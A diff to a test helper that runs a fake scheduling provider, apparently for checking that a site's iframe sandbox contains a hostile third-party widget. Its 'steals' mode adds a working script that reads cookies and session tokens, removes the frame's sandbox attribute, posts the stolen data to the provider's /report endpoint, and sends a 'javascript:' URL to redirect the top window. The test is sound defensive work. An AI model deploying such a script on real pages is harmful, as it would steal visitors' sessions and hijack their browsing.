@@ -1,10 +1,15 @@
-import { createServer, type ServerResponse } from 'node:http';
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { text } from 'node:stream/consumers';
 
-/** What the provider's script does in a test: fills the page's widgets, answers with an error, or never answers. */
-export type SchedulerMode = 'works' | 'fails' | 'hangs';
+/**
+ * What the provider's script does in a test: fills the page's widgets with its calendar (`works`) or with content of its own
+ * (`draws`), fills nothing (`idles`), tries to use the visitor's session (`steals`), is answered with an error, or never
+ * answered.
+ */
+export type SchedulerMode = 'works' | 'draws' | 'idles' | 'steals' | 'fails' | 'hangs';
 
-const SCRIPT = `
+const WORKS = `
   window.Calendly = {
     initInlineWidget({ url, parentElement }) {
       const frame = document.createElement('iframe');
@@ -18,24 +23,81 @@ const SCRIPT = `
     window.Calendly.initInlineWidget({ url: widget.dataset.url, parentElement: widget });
 `;
 
+const DRAWS = `
+  for (const widget of document.querySelectorAll('.calendly-inline-widget')) widget.textContent = 'Pick a time';
+`;
+
+/** Posts to `/report` what each attempt gave: its value as JSON, or the name of the error. Then it tries to leave the page. */
+const STEALS = `${DRAWS}
+  const provider = new URL(document.currentScript.src).origin;
+  const attempts = {
+    cookie: () => document.cookie,
+    token: () => localStorage.getItem('captain.token'),
+    session: () => sessionStorage.length,
+    database: () => indexedDB.open('stolen') && 'opened',
+    parentToken: () => parent.localStorage.getItem('captain.token'),
+    parentDocument: () => parent.document.title,
+    topAddress: () => top.location.href,
+    ownFrame: () => frameElement.removeAttribute('sandbox') ?? 'removed',
+    api: () => fetch('/api/captain/me', { credentials: 'include' }).then((res) => res.status),
+    image: () => new Promise((resolve, reject) => {
+      const image = new Image();
+      image.onload = () => resolve('loaded');
+      image.onerror = () => reject(new DOMException('', 'NetworkError'));
+      image.src = new URL('/icon.svg', location.href);
+    }),
+  };
+  (async () => {
+    const report = { origin: self.origin };
+    for (const [name, attempt] of Object.entries(attempts)) {
+      try {
+        report[name] = 'got ' + JSON.stringify(await attempt());
+      } catch (error) {
+        report[name] = error.name;
+      }
+    }
+    const send = (path, body) => fetch(provider + path, { method: 'POST', mode: 'no-cors', body: JSON.stringify(body) });
+    await send('/report', report);
+    parent.postMessage({ type: 'calendar', url: 'javascript:parent.stolen = true' }, '*');
+    parent.postMessage({ type: 'calendar', url: new URL('/captain', location.href).href }, '*');
+    try {
+      top.location.href = provider + '/stolen';
+    } catch {}
+    await send('/tried', null);
+  })();
+`;
+
+const SCRIPTS = { works: WORKS, draws: DRAWS, idles: '', steals: STEALS };
+
 /** A scheduling provider on a port of its own: its script and its booking pages. `env` points the site to it. */
 export async function startFakeScheduler() {
   let mode: SchedulerMode = 'works';
-  const silent = new Set<ServerResponse>();
-  const server = createServer((request, response) => {
-    if (request.url !== '/widget.js') {
+  const unanswered = new Set<ServerResponse>();
+  const reports = Promise.withResolvers<Record<string, string>>();
+  const tried = Promise.withResolvers<void>();
+  const server = createServer(async (request, response) => {
+    if (request.url === '/widget.js') sendScript(response);
+    else if (request.url === '/report') reports.resolve(await readJson(request));
+    else if (request.url === '/tried') tried.resolve();
+    else {
       response.writeHead(200, { 'Content-Type': 'text/html' });
-      response.end('<!doctype html><title>Pick a time</title><p>Pick a time');
-    } else if (mode === 'works') {
-      response.writeHead(200, { 'Content-Type': 'text/javascript' });
-      response.end(SCRIPT);
+      response.end('<!doctype html><title>Pick a time</title><p>Pick a time<p><button>10:00</button>');
+    }
+    if (request.method === 'POST') response.end();
+  });
+
+  function sendScript(response: ServerResponse) {
+    if (mode === 'hangs') {
+      unanswered.add(response);
     } else if (mode === 'fails') {
       response.writeHead(500);
       response.end();
     } else {
-      silent.add(response);
+      response.writeHead(200, { 'Content-Type': 'text/javascript' });
+      response.end(SCRIPTS[mode]);
     }
-  });
+  }
+
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
   return {
@@ -46,13 +108,21 @@ export async function startFakeScheduler() {
       SCHEDULER_STRATEGY_URL: `${url}/strategy`,
       SCHEDULER_VOICE_AI_URL: `${url}/voice-ai`,
     },
+    /** What the script that `steals` could read, once it has tried everything. */
+    report: reports.promise,
+    /** Resolves when it has also tried to leave the page. */
+    tried: tried.promise,
     set(next: SchedulerMode) {
       mode = next;
     },
     async stop() {
-      for (const response of silent) response.destroy();
+      for (const response of unanswered) response.destroy();
       server.closeAllConnections();
       await new Promise((resolve) => server.close(resolve));
     },
   };
+}
+
+async function readJson(request: IncomingMessage): Promise<Record<string, string>> {
+  return JSON.parse(await text(request)) as Record<string, string>;
 }
